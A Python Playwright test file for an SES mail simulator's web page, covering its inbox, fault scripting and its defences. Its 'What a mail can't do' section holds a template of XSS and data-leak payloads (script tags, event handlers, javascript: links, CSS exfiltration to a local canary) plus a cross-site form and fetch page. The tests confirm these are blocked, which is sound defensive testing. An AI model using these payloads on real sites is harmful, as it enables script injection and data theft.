"""The simulator's page in a real browser: what it shows, what its forms do, what a mail can't do to it."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from playwright.sync_api import Browser, Locator, Page, expect

from rq_ses import Attachment
from rq_ses_worker.ses.client import SesClient
from rq_ses_worker.ses.credentials import Credentials
from rq_ses_worker.ses.endpoint import Endpoint
from rq_ses_worker.ses.outcome import Outcome
from rq_ses_worker.simulator.server import SimulatorServer
from support.mails.mail import mail
from support.programs.browser import MILLISECONDS, opened_context
from support.programs.processes import KEY_ID, SECRET, TOKEN, environment, run, running
from support.waiting import PATIENCE, wait_for

Send = Callable[..., Outcome]
LOGO = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000000301"
    "0100c9fe92ef0000000049454e44ae426082"
)
"""A PNG of one red pixel."""


@contextmanager
def sender(url: str, secret: str = SECRET) -> Iterator[Send]:
    with SesClient(Credentials(KEY_ID, secret, TOKEN), Endpoint("us-east-1", url)) as client:

        def send(to: str = "anna@example.com", **fields: Any) -> Outcome:
            return client.send(mail(to, **fields))

        yield send


@pytest.fixture
def send(ses: SimulatorServer) -> Iterator[Send]:
    with sender(ses.url) as found:
        yield found


def wait_in(page: Page, condition: Callable[[], bool]) -> None:
    """Wait for what the browser reports: it is heard only while the page is asked something."""

    def met() -> bool:
        page.wait_for_timeout(10)
        return condition()

    wait_for(met)


class _Canary(ThreadingHTTPServer):
    """A stranger's site: it notes what it is asked for, and serves one page."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _CanaryHandler)
        self.paths: list[str] = []
        self.page = b""
        self.url = f"http://127.0.0.1:{self.server_port}"


class _CanaryHandler(BaseHTTPRequestHandler):
    server: _Canary

    def do_GET(self) -> None:
        self.server.paths.append(self.path)
        page = self.server.page if self.path == "/" else b""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Tests are quiet."""


@pytest.fixture
def canary() -> Iterator[_Canary]:
    server = _Canary()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def test_a_mail_appears_while_the_page_is_open_and_can_be_read(
    ses: SimulatorServer, send: Send, page: Page
) -> None:
    failures: list[str] = []
    page.on("pageerror", lambda error: failures.append(str(error)))
    page.on("console", lambda message: failures.append(message.text))
    page.goto(ses.url)
    expect(page.get_by_text("No request yet.")).to_be_visible()
    send(
        subject="Your order",
        text="It is on its way.",
        html='<h1>On its way</h1><img id="logo" src="cid:logo">',
        attachments=[
            Attachment(filename="bill.pdf", content=b"%PDF"),
            Attachment(filename="logo.png", content=LOGO, content_id="logo"),
        ],
    )
    link = page.get_by_role("link", name="Your order")
    expect(link).to_be_visible()
    expect(page.get_by_role("status")).to_have_text("One new mail.")
    link.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Your order")).to_be_visible()
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="On its way")).to_be_visible()
    wait_for(lambda: frame.locator("#logo").evaluate("image => image.naturalWidth") == 1)
    expect(page.locator("pre.text")).to_have_text("It is on its way.")
    expect(page.get_by_text("It is what the simulator calculates itself.")).to_be_visible()
    with page.expect_download() as saved:
        page.get_by_role("link", name="bill.pdf").click()
    assert saved.value.suggested_filename == "bill.pdf"
    assert saved.value.path().read_bytes() == b"%PDF"
    page.get_by_text("As it was received").click()
    expect(page.get_by_text("POST /v2/email/outbound-emails").last).to_be_visible()
    assert TOKEN not in page.content()
    assert SECRET not in page.content()
    assert failures == []


def test_a_refused_mail_shows_why(ses: SimulatorServer, page: Page) -> None:
    with sender(ses.url, "another-secret-than-the-simulators") as send:
        send(subject="Badly signed")
    page.goto(ses.url)
    expect(page.get_by_text("403 InvalidSignatureException")).to_be_visible()
    page.get_by_role("link", name="Badly signed").click()
    expect(page.get_by_text("does not match the signature you provided").first).to_be_visible()
    expect(page.locator("pre", has_text="host:127.0.0.1")).to_be_visible()


def test_searching_and_clearing(ses: SimulatorServer, send: Send, page: Page) -> None:
    send("anna@example.com", subject="Welcome")
    send("ben@example.com", subject="Your order")
    page.goto(ses.url)
    page.get_by_role("searchbox", name="Search").fill("ben@example.com")
    page.keyboard.press("Enter")
    expect(page.get_by_role("link", name="Your order")).to_be_visible()
    expect(page.get_by_role("link", name="Welcome")).to_have_count(0)
    page.once("dialog", lambda dialog: dialog.dismiss())
    page.get_by_role("button", name="Clear").click()
    assert len(ses.mails) == 2
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Clear").click()
    expect(page.get_by_text("No request yet.")).to_be_visible()
    assert ses.mails == []


def test_an_address_is_scripted_from_the_page(ses: SimulatorServer, send: Send, page: Page) -> None:
    page.goto(ses.url)
    page.get_by_role("link", name="Faults and account").click()
    page.get_by_label("Address", exact=True).fill("anna@example.com")
    page.get_by_label("Steps").first.fill("429+nonsense")
    page.get_by_role("button", name="Script", exact=True).click()
    expect(page.get_by_role("alert")).to_contain_text("'nonsense' is not a step")
    expect(page.get_by_label("Address", exact=True)).to_have_value("anna@example.com")
    page.get_by_label("Steps").first.fill("429")
    page.get_by_role("button", name="Script", exact=True).click()
    row = page.get_by_role("row").filter(has_text="anna@example.com")
    expect(row).to_contain_text("active")
    send()
    expect(row).to_contain_text("over")
    assert ses.requests[0].status == 429
    page.get_by_role("button", name="Remove the script of anna@example.com").click()
    expect(page.get_by_text("No address has a script.")).to_be_visible()


def test_the_page_finds_a_simulator_that_was_started_anew(page: Page) -> None:
    with SimulatorServer() as first:
        page.goto(first.url)
        port = urlsplit(first.url).port or 0
    # A request that the server's end leaves hanging is given up after 15 s.
    expect(page.get_by_role("status")).to_have_text(
        "The simulator doesn't answer; trying again.", timeout=2 * MILLISECONDS
    )
    with SimulatorServer(KEY_ID, SECRET, TOKEN, port=port) as second, sender(second.url) as send:
        expect(page.get_by_role("status")).to_have_text("Connected again.")
        send(subject="Afterwards")
        expect(page.get_by_role("link", name="Afterwards")).to_be_visible()
        page.close()


def test_the_page_reads_and_works_without_scripts(ses: SimulatorServer, send: Send, browser: Browser) -> None:
    send(subject="Plain", html="<p>Still here")
    with opened_context(browser, java_script_enabled=False) as context, context.new_page() as page:
        page.goto(ses.url)
        page.get_by_role("link", name="Plain").click()
        expect(page.frame_locator("iframe").get_by_text("Still here")).to_be_visible()
        page.goto(ses.url)
        page.get_by_role("button", name="Clear").click()
        expect(page.get_by_text("No request yet.")).to_be_visible()
    assert ses.mails == []


# What a mail can't do

HOSTILE = """
<base href="{canary}/base/" target="_top">
<meta http-equiv="refresh" content="0; url={canary}/refresh">
<link rel="stylesheet" href="{canary}/link.css"><link rel="prefetch" href="{canary}/prefetch">
<style>@import "{canary}/import.css"; body {{ background: url({canary}/css) }}
input[value^="a"] {{ background: url({canary}/exfiltrated) }}
@font-face {{ font-family: f; src: url({canary}/font) }} p {{ font-family: f }}</style>
<script>{run}; fetch("{canary}/fetch")</script>
<script src="{canary}/script.js"></script><script src="/_simulator/static/page.js"></script>
<img src="x" onerror='{run}'><img src="{canary}/pixel"><svg onload='{run}'></svg>
<body onload='{run}'>
<p>Hostile</p><input value="abc" autofocus onfocus='{run}'>
<iframe srcdoc="<script>top.document.title = 'taken'; parent.ran = 1</script>"></iframe>
<iframe src="{canary}/frame"></iframe><iframe src="javascript:{js}"></iframe>
<object data="{canary}/object"></object><embed src="{canary}/embed">
<video src="{canary}/video" autoplay></video><audio src="{canary}/audio" autoplay></audio>
<form action="{simulator}/_simulator/view/clear" method="post"><button id="clear">Clear</button></form>
<a id="js" href="javascript:{js}">js</a> <a id="top" target="_top" href="{canary}/top">top</a>
<a id="blank" target="_blank" href="{canary}/blank">blank</a>
<a id="self" target="_self" href="{canary}/self">self</a>
<a id="home" target="_self" href="{simulator}/_simulator/requests/1/html?home">home</a>
<details open ontoggle='{run}'><summary>x</summary></details>
"""
RUN = 'top.document.title = "taken"; top.ran = 1; document.title = "taken"; window.ran = 1; alert(1)'


def hostile(simulator: str, canary: str) -> str:
    return HOSTILE.format(simulator=simulator, canary=canary, run=RUN, js="top.ran=1;alert(1)")


def wait_for_all_of(document: Locator) -> None:
    """Wait until a document's own requests have ended, as all have that were refused."""
    wait_for(lambda: document.evaluate("root => root.ownerDocument.readyState") == "complete")


def wait_for_what_has_begun(page: Page, canary: _Canary) -> None:
    """Wait until what the browser had begun has been seen: it asks the canary for one thing more."""
    canary.page = b'<link rel="icon" href="data:,"><p>The last'
    with page.context.new_page() as last:
        last.goto(f"{canary.url}/")
        expect(last.get_by_text("The last")).to_be_visible()


def test_a_hostile_mail_does_not_reach_the_page(
    ses: SimulatorServer, send: Send, page: Page, canary: _Canary
) -> None:
    send(subject="Hostile", html=hostile(ses.url, canary.url), text="<script>window.ran = 1</script>")
    happened: list[str] = []
    page.on("dialog", lambda dialog: (happened.append("dialog"), dialog.dismiss()))
    page.on("popup", lambda _: happened.append("popup"))
    page.on("download", lambda _: happened.append("download"))
    page.goto(ses.url)
    page.get_by_role("link", name="Hostile").click()
    here, title = page.url, page.title()
    frame = page.frame_locator("iframe")
    html = f"{ses.url}/_simulator/requests/1/html"
    expect(frame.get_by_text("Hostile", exact=True)).to_be_visible()
    wait_for_all_of(frame.locator("html"))
    for link in ("#js", "#top", "#blank", "#clear"):
        frame.locator(link).click()
    page.get_by_text("Source of the HTML").click()
    # The one way that is open leads back; the frame has gone it only when it is through with the others.
    frame.locator("#home").click()
    wait_in(page, lambda: page.frames[1].url == f"{html}?home")
    wait_for_all_of(frame.locator("html"))
    frame.locator("#self").click()
    # The way out through the frame is blocked by the page's policy: the browser shows its own error in it.
    wait_in(page, lambda: page.frames[1].url != f"{html}?home")
    wait_for_what_has_begun(page, canary)
    assert (page.url, page.title()) == (here, title)
    assert page.evaluate("window.ran === undefined")
    assert happened == []
    assert canary.paths == ["/"]
    assert len(ses.mails) == 1


def test_a_hostile_mail_that_is_opened_by_its_own_address_can_do_nothing_either(
    ses: SimulatorServer, send: Send, page: Page, canary: _Canary
) -> None:
    send(subject="Hostile", html=hostile(ses.url, canary.url))
    happened: list[str] = []
    page.on("dialog", lambda dialog: (happened.append("dialog"), dialog.dismiss()))
    page.on("popup", lambda _: happened.append("popup"))
    page.goto(f"{ses.url}/_simulator/requests/1/html")
    expect(page.get_by_text("Hostile", exact=True)).to_be_visible()
    wait_for_all_of(page.locator("html"))
    for link in ("#js", "#clear"):
        page.locator(link).click()
    wait_for_what_has_begun(page, canary)
    assert page.url == f"{ses.url}/_simulator/requests/1/html"
    assert page.title() == ""
    assert happened == []
    assert canary.paths == ["/"]
    assert len(ses.mails) == 1


def test_the_browser_would_have_run_it(ses: SimulatorServer, page: Page, canary: _Canary) -> None:
    """The same HTML on a page without a policy runs, loads and leads away: so the tests above can fail."""
    # A dialog would be in the way of the page's end.
    canary.page = hostile(ses.url, canary.url).replace("alert(1)", f"fetch(`{canary.url}/ran`)").encode()
    page.goto(canary.url, wait_until="commit")
    wait_in(page, lambda: {"/ran", "/pixel", "/script.js", "/link.css", "/refresh"} <= set(canary.paths))
    # A page that goes on asking for things is never closed.
    page.context.unroute_all(behavior="ignoreErrors")
    page.goto("about:blank")


def test_subjects_and_names_are_text_in_the_page(ses: SimulatorServer, send: Send, page: Page) -> None:
    script = "<img src=x onerror='window.ran = 1'><script>window.ran = 1</script>"
    page.goto(ses.url)
    send(subject=script, sender=f'"{script}" <a@example.com>')
    link = page.get_by_role("link", name=script)
    expect(link).to_be_visible()
    link.click()
    expect(page.get_by_role("heading", name=script)).to_be_visible()
    assert page.evaluate("window.ran === undefined")
    assert page.locator("main img").count() == 0


def test_another_sites_page_neither_clears_nor_scripts_nor_reads_nor_frames(
    ses: SimulatorServer, send: Send, page: Page, canary: _Canary
) -> None:
    send(subject="Kept")
    canary.page = f"""
    <form id="clear" action="{ses.url}/_simulator/view/clear" method="post" target="one"></form>
    <form id="script" action="{ses.url}/_simulator/view/faults" method="post" target="two">
    <input name="action" value="add"><input name="address" value="anna@example.com">
    <input name="steps" value="reject"></form><iframe name="one"></iframe><iframe name="two"></iframe>
    <script>
    const ask = (target, options) =>
      fetch("{ses.url}" + target, options).then(answer => answer.text(), () => "refused");
    (async () => {{
      document.getElementById("clear").submit(); document.getElementById("script").submit();
      const answers = await Promise.all([
        ask("/_simulator/mails"), ask("/"), ask("/_simulator", {{ method: "DELETE" }}),
        ask("/_simulator/mails", {{ method: "DELETE" }}),
        ask("/_simulator/faults", {{ method: "POST", mode: "no-cors",
          body: '{{"address": "anna@example.com", "steps": ["reject"]}}' }}),
      ]);
      document.title = answers.join("|");
    }})();
    </script>""".encode()
    statuses: list[int] = []
    page.on("response", lambda r: statuses.append(r.status) if r.request.method == "POST" else None)
    page.goto(canary.url)
    wait_for(lambda: page.title().startswith("refused|refused|refused|refused|"))
    wait_in(page, lambda: len(statuses) == 2)
    assert statuses == [403, 403]
    assert len(ses.mails) == 1
    assert ses.faults.scripts() == []
    canary.page = f'<iframe src="{ses.url}/"></iframe>'.encode()
    page.goto(canary.url)
    frame = page.frame_locator("iframe")
    # Refused, it is the browser's own error that is loaded in the frame.
    wait_in(page, lambda: page.frames[1].url not in ("", "about:blank"))
    wait_for_all_of(frame.locator("html"))
    assert frame.get_by_text("Inbox").count() == 0


# The command


def test_the_command_serves_its_page_to_other_names_when_it_is_told_to(tmp_path: Path) -> None:
    log = tmp_path / "log"
    with running(
        ["simulator", "--port", "0"], environment(RQ_SES_SIMULATOR_ALLOW_HOST="simulator other"), log
    ) as it:
        url = wait_for(lambda: it.output.partition("listening on ")[2].strip())
        with requests.Session() as http:
            http.trust_env = False

            def ask(host: str) -> int:
                return http.get(url, headers={"Host": host}, timeout=PATIENCE).status_code

            assert {ask(host) for host in ("simulator:4579", "other", "localhost:1")} == {200}
            assert ask("attacker.example") == 403


@pytest.mark.parametrize("name", ["http://simulator", "*", "simulator:80"])
def test_what_is_no_host_name_is_refused_before_anything_listens(name: str) -> None:
    ended = run(["simulator", "--port", "0", "--allow-host", name], environment())
    assert ended.returncode == 2
    assert f"'{name}' is not a host name" in ended.stderr
    assert ended.stdout == ""
